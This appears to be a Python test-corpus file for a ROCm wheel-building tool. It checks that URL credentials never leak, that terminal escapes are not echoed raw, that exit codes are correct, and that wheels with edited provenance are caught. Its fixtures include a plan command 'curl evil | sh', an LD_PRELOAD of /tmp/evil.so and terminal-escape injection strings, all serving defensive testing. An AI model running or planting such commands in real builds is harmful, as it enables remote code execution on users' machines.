"""Round two, classes 5 and 6: secrets and terminal escapes ("leaks"), exit codes ("exits").

leaks: a ``user:password@`` in a ``[[downloads]]`` / source URL (refused at load, recipe.check:
credentials go in ~/.netrc) or a ``validate --with`` URL never reaches stdout, stderr, a log, the
cache or a file name (``secret``); a terminal escape sequence in text that came from a file (a
recipe string, now refused at load; a wheel member's name, a forged provenance) never
reaches stderr raw: ``secret="\\x1b"`` makes the runner check that the ESC byte appears nowhere
(tests/integration/test_terminal_escapes.py checks ``plan`` of such a recipe and ``plan --host``
of such a host).

exits: bad ``promote`` specs and ``--from X --to X`` are usage errors (2); ``--stage ''`` is
refused (2), never "the default stage"; an ELF named as a shared object, or in a wheel, that is
not one (a relocatable object, an executable named .so, a core dump) fails the audit (7) saying
what it is; a wheel whose provenance was edited after the build (a key recorded twice with two
values, a plan that does not hash to its cache key) is ``not reproduced`` (13) before any recipe
is looked up or any host probed.

The forged wheels carry a real provenance: flash-attn's 2.8-fork line rendered here, at import,
for a fixed host (the recipe file and rocmbuild's version are this checkout's), then edited."""

from __future__ import annotations

import copy
import io
import json
import struct
import zipfile
from typing import Any

from tests.corpus import EXIT, Case

ESC = "\x1b"
ZERO = "0" * 64
HEAD = 'schema_version = 1\n[package]\nname = "demo"\n'
TREE: dict[str, str | bytes] = {"recipes/tree/setup.py": "raise SystemExit(1)\n"}
PLAN = ("plan", "{dir}/recipes/r.toml", "--arch", "gfx942")
BUILD = ("build", "{dir}/recipes/r.toml", "--arch", "gfx942")
NO_WAIT = {"GIT_TERMINAL_PROMPT": "0"}
NOT_REPRODUCED = 13  # `verify`: the wheel is not what its provenance says (not in EXIT)


# ----------------------------------------------------------------------------- leaks: secrets


def _download(url: str, pinned: bool = True) -> str:
    return (HEAD + '[source]\npath = "tree"\n[[downloads]]\nname = "blob"\n'
            f'url = "{url}"\nenv = "BLOB_PREFIX"\n' + (f'sha256 = "{ZERO}"\n' if pinned else ""))


def _secret(cid: str, argv: tuple[str, ...], code: int, needle: str, recipe: str, secret: str,
            **kw: Any) -> Case:
    return Case(cid, argv, code, needle, "leaks", files={"recipes/r.toml": recipe, **TREE},
                secret=secret, **kw)


_GIT = (HEAD + '[source]\ngit = "https://alice:gitsecret41@127.0.0.1:1/r.git"\n'
        f'commit = "{"a" * 40}"\n')
_SDIST = (HEAD + '[source]\nsdist = { url = "https://alice:sdistsecret41@127.0.0.1:1/'
          f'demo-1.0.tar.gz", sha256 = "{ZERO}" }}\n')

# a recipe URL holding credentials is refused at load (recipe.check): named with ***@, never
# fetched, so no log, cache entry or file name can hold it
_DL = "r.toml: downloads[0].url: 'https://***@127.0.0.1:1"
SECRETS = [
    _secret("leak-download-unpinned-plan", PLAN, EXIT["recipe"], _DL,
            _download("https://bob:dlsecret41@127.0.0.1:1/blob.tgz", pinned=False),
            "dlsecret41", writes_nothing=True),
    _secret("leak-download-unpinned-plan-json", (*PLAN, "--json"), EXIT["recipe"], _DL,
            _download("https://bob:dlsecret42@127.0.0.1:1/blob.tgz", pinned=False),
            "dlsecret42", writes_nothing=True),
    _secret("leak-download-unpinned-build", BUILD, EXIT["recipe"], _DL,
            _download("https://bob:dlsecret43@127.0.0.1:1/blob.tgz", pinned=False),
            "dlsecret43", writes_nothing=True),
    _secret("leak-download-fetch", BUILD, EXIT["recipe"], _DL + "/blob.tgz' holds",
            _download("https://bob:dlsecret44@127.0.0.1:1/blob.tgz"), "dlsecret44",
            env=NO_WAIT, writes_nothing=True),
    _secret("leak-download-no-path", BUILD, EXIT["recipe"], _DL + "' holds",
            _download("https://bob:dlsecret45@127.0.0.1:1"), "dlsecret45", env=NO_WAIT,
            writes_nothing=True),
    _secret("leak-sdist-source-fetch", BUILD, EXIT["recipe"],
            "r.toml: source.sdist.url: 'https://***@127.0.0.1:1/", _SDIST, "sdistsecret41",
            env=NO_WAIT, writes_nothing=True),
    _secret("leak-git-source-fetch", BUILD, EXIT["recipe"],
            "r.toml: source.git: 'https://***@127.0.0.1:1/r.git'", _GIT, "gitsecret41",
            env=NO_WAIT, writes_nothing=True),
    Case("leak-validate-with-url", ("validate", "--with",
                                    "x @ https://u:withsecret41@127.0.0.1:1/x.whl", "{wheel}"),
         EXIT["toolchain"], "validate --with: cannot install x @ https://***@", "leaks",
         secret="withsecret41", timeout=180),
    Case("leak-validate-with-bad-requirement",
         ("validate", "--with", "x[ @ https://u:withsecret42@127.0.0.1:1/x.whl", "{wheel}"),
         EXIT["usage"], "--with: 'x[ @ https://***@", "leaks", secret="withsecret42",
         writes_nothing=True),
    Case("leak-validate-with-option",
         ("validate", "--with=--index-url=https://u:withsecret43@127.0.0.1:1/", "{wheel}"),
         EXIT["usage"], "--with: a pip option", "leaks", secret="withsecret43",
         writes_nothing=True),
    # a --stage of '' is refused before the server URL (and its password) is looked at
    Case("leak-publish-empty-stage-server",
         ("publish", "--stage", "", "--index", "https://u:pubsecret41@127.0.0.1:1/", "{wheel}"),
         EXIT["usage"], "--stage: invalid stage name ''", "leaks", secret="pubsecret41",
         writes_nothing=True),
]


# ----------------------------------------------------------------------------- leaks: escapes


def _recipe_escape(cid: str, recipe: str, needle: str, extra: dict[str, str | bytes] | None = None
                   ) -> Case:
    """A recipe string with an escape sequence, echoed in the error: never raw."""
    return Case(cid, PLAN, EXIT["recipe"], needle, "leaks",
                files={"recipes/r.toml": recipe, **TREE, **(extra or {})}, secret=ESC,
                writes_nothing=True)


def _elf(etype: int) -> bytes:
    """A 64-byte ELF64 little-endian x86-64 header of type ``etype`` and no sections."""
    return (b"\x7fELF\x02\x01\x01" + b"\0" * 9
            + struct.pack("<HHIQQQIHHHHHH", etype, 62, 1, 0, 0, 0, 0, 64, 0, 0, 64, 0, 0))


def _wheel(members: dict[str, bytes], name: str = "pkg", version: str = "1.0") -> bytes:
    di = f"{name}-{version}.dist-info"
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr(f"{di}/METADATA", f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n")
        zf.writestr(f"{di}/WHEEL", "Wheel-Version: 1.0\nGenerator: corpus\nRoot-Is-Purelib: false\n"
                    "Tag: py3-none-any\n")
        zf.writestr(f"{name}/__init__.py", "")
        for member, data in members.items():
            zf.writestr(member, data)
    return buf.getvalue()


_PATH_ESC = HEAD + '[source]\npath = "tree\\u001b]0;owned\\u0007"\n'
_PATCH_ESC = (HEAD + '[source]\npath = "tree"\n[[patches]]\nfile = "p\\u001b[31m.patch"\n'
              f'reason = "r"\nsha256 = "{ZERO}"\n')
_KEY_ESC = HEAD + '[source]\npath = "tree"\n"x\\u001b[2J" = 1\n'
_SUBKEY_ESC = _download("https://127.0.0.1:1/blob.tgz") + '"n\\u001b[2Jame" = "b"\n'
_C1_ESC = HEAD + '[source]\npath = "tree\\u009b2J"\n'
_BIDI = HEAD + '[source]\npath = "tree\\u202egnp"\n'

ESCAPES = [
    _recipe_escape("escape-source-path", _PATH_ESC, "r.toml: source.path"),
    _recipe_escape("escape-patch-file", _PATCH_ESC, "r.toml: patches[0].file"),
    _recipe_escape("escape-unknown-key", _KEY_ESC,
                   "control character U+001B in the key's name"),
    _recipe_escape("escape-unknown-download-key", _SUBKEY_ESC, "r.toml: downloads[0]"),
    Case("escape-c1-csi", PLAN, EXIT["recipe"], "r.toml: source.path", "leaks",
         files={"recipes/r.toml": _C1_ESC, **TREE}, secret="\x9b", writes_nothing=True),
    Case("escape-bidi-override", PLAN, EXIT["recipe"], "r.toml: source.path", "leaks",
         files={"recipes/r.toml": _BIDI, **TREE}, secret="\u202e", writes_nothing=True),
    Case("escape-audit-member-name", ("audit", "{dir}/pkg-1.0-py3-none-any.whl"), EXIT["audit"],
         "is a relocatable object, not a shared object", "leaks",
         files={"pkg-1.0-py3-none-any.whl": _wheel({"pkg/\x1b[2Jx.so": _elf(1)})}, secret=ESC),
    Case("escape-promote-spec", ("promote", "a==\x1b[2J1"), EXIT["usage"], "promote: ", "leaks",
         secret=ESC, writes_nothing=True),
]


# ----------------------------------------------------------------------------- exits: promote

def _promote(cid: str, argv: tuple[str, ...], needle: str) -> Case:
    return Case(f"promote-{cid}", ("promote", *argv), EXIT["usage"], needle, "exits",
                writes_nothing=True)


PROMOTE = [
    _promote("empty-version", ("a==",), "promote: 'a==' is not NAME==VERSION"),
    _promote("two-pins", ("a==1==2",), "promote: 'a==1==2' is not NAME==VERSION"),
    _promote("triple-equals", ("a===1",), "'=1' in 'a===1' is not a valid version"),
    _promote("bad-version", ("a==one",), "'one' in 'a==one' is not a valid version"),
    _promote("blank-version", ("a==  ",), "is not NAME==VERSION"),
    _promote("no-name", ("==1.0",), "promote NAME==VERSION: '' is not a valid project name"),
    _promote("same-stage", ("a==1.0", "--from", "staging", "--to", "staging"),
             "promote: --from and --to are both 'staging'"),
    _promote("same-stage-default", ("a==1.0", "--from", "stable"),
             "promote: --from and --to are both 'stable'"),
    _promote("empty-from", ("a==1.0", "--from", ""), "--from: invalid stage name ''"),
    _promote("empty-to", ("a==1.0", "--to", ""), "--to: invalid stage name ''"),
]

STAGES = [
    Case("publish-empty-stage", ("publish", "--stage", "", "{wheel}"), EXIT["usage"],
         "--stage: invalid stage name ''", "exits", writes_nothing=True),
    Case("publish-empty-stage-dry-run", ("publish", "--stage", "", "--dry-run", "{wheel}"),
         EXIT["usage"], "--stage: invalid stage name ''", "exits", writes_nothing=True),
    Case("publish-blank-stage", ("publish", "--stage", " ", "{wheel}"), EXIT["usage"],
         "--stage: invalid stage name ' '", "exits", writes_nothing=True),
]


# ----------------------------------------------------------------------------- exits: audit


def _audit(cid: str, files: dict[str, str | bytes], path: str, needle: str) -> Case:
    return Case(f"audit-{cid}", ("audit", f"{{dir}}/{path}"), EXIT["audit"], needle, "exits",
                files=files, writes_nothing=True)


_WHL = "pkg-1.0-py3-none-any.whl"
AUDIT = [
    _audit("relocatable-named-so", {"x.so": _elf(1)}, "x.so",
           "x.so is a relocatable object, not a shared object"),
    _audit("relocatable-named-so-version", {"libx.so.1": _elf(1)}, "libx.so.1",
           "libx.so.1 is a relocatable object, not a shared object"),
    _audit("executable-named-so", {"x.so": _elf(2)}, "x.so",
           "x.so is an executable, not a shared object"),
    _audit("core-named-so", {"x.so": _elf(4)}, "x.so", "x.so is a core dump, not a shared object"),
    _audit("wheel-relocatable-member", {_WHL: _wheel({"pkg/x.o": _elf(1)})}, _WHL,
           "pkg/x.o is a relocatable object, not a shared object"),
    _audit("wheel-relocatable-named-so", {_WHL: _wheel({"pkg/_C.so": _elf(1)})}, _WHL,
           "pkg/_C.so is a relocatable object, not a shared object"),
    _audit("wheel-executable-named-so", {_WHL: _wheel({"pkg/_C.so": _elf(2)})}, _WHL,
           "pkg/_C.so is an executable, not a shared object"),
    _audit("wheel-core-member", {_WHL: _wheel({"pkg/core": _elf(4)})}, _WHL,
           "pkg/core is a core dump, not a shared object"),
]


# ----------------------------------------------------------------------------- exits: forged


def _real_provenance() -> dict[str, Any]:
    """What the tag stage records (the keys verify reads) for flash-attn's 2.8-fork line on
    gfx942, rendered here for a fixed host (no ROCm root, a CPU torch)."""
    from rocmbuild import __version__
    from rocmbuild.host.detect import Host
    from rocmbuild.host.toolchain import TorchInfo
    from rocmbuild.plan.render import Target, render
    from rocmbuild.recipe.load import load
    from rocmbuild.recipe.search import find_recipe

    host = Host(python="3.11", python_tag="cp311", platform="linux",
                torch=TorchInfo("2.13.0+cpu", None, None), rocm_root=None, compiler=None,
                cpus=16, memory_bytes=64 * 2**30, memory_source="MemAvailable")
    recipe = load(find_recipe("flash-attn")).on_line("2.8-fork")
    plan = render(recipe, Target(arch="gfx942", variant="triton", release="2.8-fork"), host)
    return {"rocmbuild_version": __version__, "recipe": plan.recipe,
            "recipe_sha256": plan.recipe_sha256, "package": plan.package,
            "variant": plan.variant, "archs": list(plan.archs), "gpu_vendor": plan.gpu_vendor,
            "rocm_version": plan.rocm.version, "rocm_version_from": plan.rocm.version_kind,
            "build_tag": None, "cache_key": plan.cache_key, "source": plan.source_json(),
            "plan": plan.inputs_json()}


REAL = _real_provenance()
FORGED_WHEEL = "flash_attn-2.8.3+rocm6.2.gfx942-py3-none-any.whl"


def _provenance_wheel(prov: dict[str, Any]) -> bytes:
    di = "flash_attn-2.8.3+rocm6.2.gfx942.dist-info"
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr(f"{di}/METADATA", "Metadata-Version: 2.1\nName: flash_attn\n"
                    "Version: 2.8.3+rocm6.2.gfx942\n")
        zf.writestr("flash_attn/__init__.py", "")
        zf.writestr(f"{di}/rocmbuild.json", json.dumps(prov))
    return buf.getvalue()


def _forged(cid: str, edit: Any, needle: str, secret: str | None = None) -> Case:
    """REAL, edited by ``edit(prov)`` in place: verify says so (13), nothing rebuilt."""
    prov = copy.deepcopy(REAL)
    edit(prov)
    return Case(f"verify-forged-{cid}", ("verify", f"{{dir}}/{FORGED_WHEEL}"),
                NOT_REPRODUCED,
                f"{FORGED_WHEEL}: its provenance (rocmbuild.json) was edited after the build: "
                + needle, "exits", files={FORGED_WHEEL: _provenance_wheel(prov)}, secret=secret,
                writes_nothing=True)


def _set(*path_value: Any) -> Any:
    """An edit that sets each (key path, value) pair: ``("plan", "source", "commit"), "f" * 40``."""
    pairs = list(zip(path_value[::2], path_value[1::2], strict=True))

    def edit(prov: dict[str, Any]) -> None:
        for path, value in pairs:
            d = prov
            for k in path[:-1]:
                d = d[k]
            d[path[-1]] = value
    return edit


_OTHER = "ab" * 32
_COMMIT = "f" * 40
FORGED = [
    _forged("recipe-digest", _set(("recipe_sha256",), _OTHER), "recipe_sha256 is 'abab"),
    _forged("plan-recipe-digest", _set(("plan", "recipe_sha256"), _OTHER), "recipe_sha256 is"),
    _forged("both-recipe-digests", _set(("recipe_sha256",), _OTHER,
                                        ("plan", "recipe_sha256"), _OTHER),
            "its plan hashes to cache key"),
    _forged("source-commit", _set(("plan", "source", "commit"), _COMMIT), "source is"),
    _forged("both-source-commits", _set(("plan", "source", "commit"), _COMMIT,
                                        ("source", "commit"), _COMMIT),
            "its plan hashes to cache key"),
    _forged("cache-key", _set(("cache_key",), _OTHER), "cache_key is 'abab"),
    _forged("both-cache-keys", _set(("cache_key",), _OTHER, ("plan", "cache_key"), _OTHER),
            "its plan hashes to cache key"),
    _forged("archs", _set(("archs",), ["gfx950"]), "archs is ['gfx950']"),
    _forged("variant", _set(("variant",), "ck"), "variant is 'ck'"),
    _forged("build-tag", _set(("build_tag",), "7"), "build_tag is '7'"),
    _forged("package", _set(("package",), "other"), "package is 'other'"),
    _forged("plan-env", _set(("plan", "env", "LD_PRELOAD"), "/tmp/evil.so"),
            "its plan hashes to cache key"),
    _forged("plan-commands", _set(("plan", "commands"), [["sh", "-c", "curl evil | sh"]]),
            "its plan hashes to cache key"),
    _forged("plan-patches", _set(("plan", "patches"), [
        {"file": "patches/x.patch", "sha256": ZERO, "reason": "r", "link": ""}]),
        "its plan hashes to cache key"),
    _forged("variant-escape", _set(("variant",), "ck\x1b[2J"), "variant is 'ck", secret=ESC),
]


CASES = [*SECRETS, *ESCAPES, *PROMOTE, *STAGES, *AUDIT, *FORGED]
